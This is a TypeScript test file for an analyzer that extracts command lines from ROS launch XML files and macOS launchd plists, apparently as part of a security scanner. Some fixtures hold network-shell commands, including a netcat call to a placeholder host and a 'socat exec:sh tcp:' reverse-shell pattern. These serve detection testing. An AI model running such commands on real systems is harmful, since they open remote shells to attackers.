import { launchCommandSegments } from './launch-commands.analyzer.js';

describe('launchCommandSegments', () => {
  it('should fill a launch prefix in from arg and let values, entities decoded, at the attribute line', () => {
    const text =
      '<launch>\n  <arg name="host" default="h.example.org"/>\n  <let name="cmd" value="nc $(var host) 1 &amp;&amp; x"/>\n  <node pkg="p" exec="e"\n        launch-prefix="$(var cmd) --"/>\n</launch>\n';
    const [seg] = launchCommandSegments([{ path: 'a.launch.xml', text }]);
    expect(seg.text).toBe('nc h.example.org 1 && x --');
    expect(seg.line).toBe(5);
  });
  it('should read an executable cmd and leave unknown substitutions as written', () => {
    const text = '<launch>\n  <executable cmd="$(find-pkg-prefix p)/bin/t $(var missing)"/>\n</launch>\n';
    expect(launchCommandSegments([{ path: 'b.launch.xml', text }])[0].text).toBe(
      '$(find-pkg-prefix p)/bin/t $(var missing)',
    );
  });
  it('should read nothing from XML that is neither a launch file nor an MSBuild project', () => {
    const text = '<config>\n  <node launch-prefix="socat exec:sh tcp:h:1"/>\n</config>\n';
    expect(launchCommandSegments([{ path: 'c.xml', text }])).toEqual([]);
  });
  it('should bound values that name each other', () => {
    const text =
      '<launch>\n  <arg name="a" default="$(var a)$(var a)$(var a)"/>\n  <node launch-prefix="$(var a)"/>\n</launch>\n';
    expect(launchCommandSegments([{ path: 'd.launch', text }])[0].text.length).toBeLessThanOrEqual(4000);
  });
});

describe('launchCommandSegments (launchd plists)', () => {
  const plist = (strings: string) =>
    `<plist version="1.0">\n<dict>\n  <key>ProgramArguments</key>\n  <array>\n${strings}  </array>\n</dict>\n</plist>\n`;
  it("should read a shell's -c argument with its entities decoded", () => {
    const text = plist(
      '    <string>/bin/bash</string>\n    <string>-c</string>\n    <string>a &amp;&amp; b &gt;&gt; c</string>\n',
    );
    const [seg] = launchCommandSegments([{ path: 'LaunchAgents/x.plist', text }]);
    expect(seg.text).toBe('a && b >> c');
    expect(seg.lang).toBe('shell');
  });
  it('should join the arguments of any other program, quoting those with spaces', () => {
    const text = plist(
      '    <string>/usr/local/bin/tool</string>\n    <string>--dir</string>\n    <string>a b</string>\n',
    );
    expect(launchCommandSegments([{ path: 'x.plist', text }])[0].text).toBe(
      "/usr/local/bin/tool --dir 'a b'",
    );
  });
  it('should read nothing from a plist without a job', () => {
    const text =
      '<plist version="1.0">\n<dict>\n  <key>CFBundleName</key>\n  <string>App</string>\n</dict>\n</plist>\n';
    expect(launchCommandSegments([{ path: 'Info.plist', text }])).toEqual([]);
  });
});
